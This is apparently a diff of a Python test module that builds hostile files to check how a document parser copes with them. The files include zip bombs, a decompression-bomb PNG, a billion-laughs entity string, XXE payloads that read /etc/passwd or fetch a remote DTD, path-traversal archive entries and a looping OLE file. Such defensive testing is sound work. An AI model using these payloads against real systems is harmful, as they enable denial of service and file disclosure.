@@ -4,35 +4,42 @@ from __future__ import annotations
 
 import bz2
 import gzip
-import io
 import lzma
 import os
 import random
 import socket
-import struct
 import tarfile
 import threading
 import time
-import zipfile
-import zlib
-from collections.abc import Callable, Iterator, Mapping
+from collections.abc import Callable, Iterator
 from contextlib import contextmanager, suppress
 from dataclasses import dataclass
 from pathlib import Path
 
-from parser_samples import PAGE, WORDS, docx, epub, office, open_document, package, pdf, png, pptx, xlsx
-from pdf_samples import assemble
-
-MEGABYTE = 1 << 20
-LAUGHS = (
-    '<!DOCTYPE x [<!ENTITY a0 "ha">'
-    + "".join(f'<!ENTITY a{n} "' + f"&a{n - 1};" * 10 + '">' for n in range(1, 12))
-    + "]>"
+from hostile_archives import MEGABYTE, encrypted_zip, link, lying, nested, overlapping, stored, tarred, zipped
+from hostile_documents import (
+    FETCHED,
+    LAUGHS,
+    OUTSIDE,
+    attached,
+    book,
+    locked_docx,
+    locked_pdf,
+    looping_ole,
+    mail,
+    page,
+    paragraph,
+    picture_bomb,
+    portable,
+    repeated_cells,
+    sheet_of_claims,
+    with_links,
+    with_part,
+    word,
 )
-OUTSIDE = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
-FETCHED = '<!DOCTYPE x [<!ENTITY % a SYSTEM "http://192.0.2.1/x.dtd">%a;]>'
+from parser_samples import PAGE, WORDS, docx, open_document, pdf, png, pptx, xlsx
+
 NOISE = random.Random(5).randbytes(10_000)
-W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
 
 
 @dataclass(frozen=True, slots=True)
@@ -41,195 +48,7 @@ class Hostile:
 
     make: bytes | Callable[[Path], object]
     outcome: str
-    reason: str = ""  # a regular expression; of a file that is read it is looked for in the warnings
-
-
-def zipped(files: Mapping[str, bytes]) -> bytes:
-    out = io.BytesIO()
-    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
-        for name, data in files.items():
-            archive.writestr(zipfile.ZipInfo(name), data, zipfile.ZIP_DEFLATED)
-    return out.getvalue()
-
-
-def stored(files: Mapping[str, bytes]) -> bytes:
-    out = io.BytesIO()
-    with zipfile.ZipFile(out, "w") as archive:
-        for name, data in files.items():
-            archive.writestr(zipfile.ZipInfo(name), data)
-    return out.getvalue()
-
-
-def tarred(*entries: tuple[tarfile.TarInfo, bytes]) -> bytes:
-    out = io.BytesIO()
-    with tarfile.open(fileobj=out, mode="w") as archive:
-        for entry, data in entries:
-            entry.size = len(data)
-            archive.addfile(entry, io.BytesIO(data))
-    return out.getvalue()
-
-
-def link(name: str, target: str, kind: bytes = tarfile.SYMTYPE) -> tuple[tarfile.TarInfo, bytes]:
-    entry = tarfile.TarInfo(name)
-    entry.type, entry.linkname = kind, target
-    return entry, b""
-
-
-def nested(depth: int) -> bytes:
-    data = zipped({"inside.txt": WORDS.encode()})
-    for level in range(depth):
-        data = zipped({f"level{level}.zip": data})
-    return data
-
-
-def lying() -> bytes:
-    """A zip whose directory claims four gigabytes for a member of some bytes."""
-    data = bytearray(zipped({"a.txt": b"x" * 50}))
-    entry = data.index(b"PK\x01\x02")
-    data[entry + 24 : entry + 28] = struct.pack("<I", 0xFFFFFFF0)
-    return bytes(data)
-
-
-def overlapping() -> bytes:
-    """A directory that names the same data again and again (D. Fifield, "A better zip bomb", 2019)."""
-    data = zipped({"a.txt": b"0" * 4 * MEGABYTE})
-    start, end = data.index(b"PK\x01\x02"), data.index(b"PK\x05\x06")
-    entry, count = data[start:end], 400
-    directory = b"".join(entry.replace(b"a.txt", f"{n:05}".encode()) for n in range(count))
-    tail = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, count, count, len(directory), start, 0)
-    return data[:start] + directory + tail
-
-
-def encrypted_zip() -> bytes:
-    data = bytearray(zipped({"a.txt": WORDS.encode() * 3}))
-    data[6] |= 1
-    data[data.index(b"PK\x01\x02") + 8] |= 1
-    return bytes(data)
-
-
-def word(body: str, head: str = "", more: dict[str, str] | None = None) -> bytes:
-    text = f'{head}<w:document xmlns:w="{W}"><w:body>{body}</w:body></w:document>'
-    return office("word/document.xml", "wordprocessingml.document", text, more)
-
-
-def paragraph(text: str) -> str:
-    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"
-
-
-def with_links(main: bytes, part: str, kind: str, target: str) -> bytes:
-    """An Office file with a link that leads to another machine."""
-    base = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
-    links = (
-        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rX" '
-        f'Type="{base}/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
-    )
-    out = io.BytesIO(main)
-    with zipfile.ZipFile(out, "a") as archive:
-        archive.writestr(part, links)
-    return out.getvalue()
-
-
-def with_part(main: bytes, part: str, change: Callable[[str], str]) -> bytes:
-    """The same package with one part rewritten."""
-    with zipfile.ZipFile(io.BytesIO(main)) as archive:
-        parts = {name: archive.read(name).decode() for name in archive.namelist()}
-    return package({**parts, part: change(parts[part])})
-
-
-def book(content: bytes) -> bytes:
-    with zipfile.ZipFile(io.BytesIO(epub())) as archive:
-        parts = {name: archive.read(name) for name in archive.namelist()}
-    return zipped({**parts, "c.xhtml": content})
-
-
-def portable(*objects: bytes, root: int = 1) -> bytes:
-    """A PDF of these objects, numbered from 1."""
-    return assemble(objects, root)
-
-
-def page(content: bytes, *, catalog: str = "", box: str = "0 0 595 842", packed: bool = False, more: str = "") -> bytes:
-    data = zlib.compress(content, 9) if packed else content
-    kind = "/Filter /FlateDecode " if packed else ""
-    return portable(
-        f"<< /Type /Catalog /Pages 2 0 R {catalog} >>".encode(),
-        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
-        f"<< /Type /Page /Parent 2 0 R /MediaBox [{box}] /Contents 4 0 R "
-        f"/Resources << /Font << /F1 5 0 R >> {more} >> >>".encode(),
-        f"<< {kind}/Length {len(data)} >>\nstream\n".encode() + data + b"\nendstream",
-        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
-    )
-
-
-def locked_pdf() -> bytes:
-    import pypdf
-
-    writer = pypdf.PdfWriter(clone_from=pypdf.PdfReader(io.BytesIO(pdf())))
-    writer.encrypt("secret", algorithm="AES-256")
-    out = io.BytesIO()
-    writer.write(out)
-    return out.getvalue()
-
-
-def locked_docx() -> bytes:
-    from msoffcrypto.format.ooxml import OOXMLFile
-
-    out = io.BytesIO()
-    OOXMLFile(io.BytesIO(docx())).encrypt("secret", out)
-    return out.getvalue()
-
-
-def picture_bomb() -> bytes:
-    """A PNG of 30,000 × 30,000 pixels in some kilobytes."""
-
-    def chunk(kind: bytes, content: bytes) -> bytes:
-        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))
-
-    header = struct.pack(">IIBBBBB", 30_000, 30_000, 1, 0, 0, 0, 0)
-    squeeze = zlib.compressobj(9)
-    rows = b"".join(squeeze.compress(b"\0" * 3_751 * 100) for _ in range(300)) + squeeze.flush()
-    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")
-
-
-def mail(headers: str, body: str) -> bytes:
-    return f"From: a@example.com\nSubject: Leave\nMIME-Version: 1.0\n{headers}\n\n{body}".encode()
-
-
-def attached(*names: str) -> bytes:
-    parts = "".join(
-        f'--b\nContent-Type: text/plain\nContent-Disposition: attachment; filename="{name}"\n\n{WORDS}\n'
-        for name in names
-    )
-    return mail(
-        'Content-Type: multipart/mixed; boundary="b"', f"--b\nContent-Type: text/plain\n\n{WORDS}\n{parts}--b--\n"
-    )
-
-
-def sheet_of_claims() -> bytes:
-    """Two cells at the far corners of a sheet: a table of 17,000,000,000 cells for who lays it out."""
-    far = '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'
-    return with_part(xlsx(), "xl/worksheets/sheet1.xml", lambda text: text.replace("</sheetData>", far))
-
-
-def repeated_cells() -> bytes:
-    cell = (
-        '<table:table-cell table:number-columns-repeated="1000000000" office:value-type="string"><text:p>x</text:p>'
-        "</table:table-cell>"
-    )
-    row = f'<table:table-row table:number-rows-repeated="1000000000">{cell}</table:table-row>'
-    return open_document(
-        "spreadsheet", f'<office:spreadsheet><table:table table:name="s">{row}</table:table></office:spreadsheet>'
-    )
-
-
-def looping_ole() -> bytes:
-    """An OLE file whose allocation table leads in a circle."""
-    head = bytearray(512)
-    head[:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
-    struct.pack_into("<HHHHH", head, 24, 0x3E, 3, 0xFFFE, 9, 6)
-    struct.pack_into("<IIIIIIIII", head, 44, 1, 1, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0, 0)
-    struct.pack_into("<I", head, 76, 0)
-    table = struct.pack("<I", 0xFFFFFFFD) + struct.pack("<I", 1) + b"\xff" * 504
-    return bytes(head) + table + bytes(512)
+    reason: str = ""  # a regular expression, for a file that is not read
 
 
 def sparse(path: Path) -> None:
@@ -272,7 +91,7 @@ HOSTILE: dict[str, Hostile] = {
     "many.zip": Hostile(zipped({f"{n}.txt": b"x" for n in range(2_500)}), "failed", "more than 2000 files"),
     "lying.zip": Hostile(lying(), "added"),
     "overlapping.zip": Hostile(overlapping(), "failed", f"damaged|{TOO_MUCH}"),
-    "encrypted.zip": Hostile(encrypted_zip(), "failed", "encrypted: it needs a password"),
+    "encrypted.zip": Hostile(encrypted_zip(), "failed", "needs a password"),
     "cut.zip": Hostile(zipped({"a.txt": NOISE[:5_000]})[:2_500], "failed", "damaged|not an archive"),
     "climbing.zip": Hostile(
         zipped({"../../../etc/evil.txt": b"climbed", "/absolute.txt": b"x", "C:\\drive.txt": b"x", "..\\b.txt": b"x"}),
@@ -418,7 +237,7 @@ HOSTILE: dict[str, Hostile] = {
         "failed|skipped",
         "damaged|cannot be|no text|no page|pages",
     ),
-    "circle.xls": Hostile(looping_ole(), "failed", "damaged|not a|cannot be|given up"),
+    "circle.xls": Hostile(looping_ole(), "failed", "damaged|not a|cannot be|given up|more memory"),
     "binary.rtf": Hostile(b"{\\rtf1 \\bin999999999 x" + WORDS.encode() + b"}", "added|skipped|failed"),
     "number.json": Hostile(b'{"n": ' + b"9" * 100_000 + b', "rule": "' + WORDS.encode() + b'"}', "added|failed"),
     "aliases.yaml": Hostile(
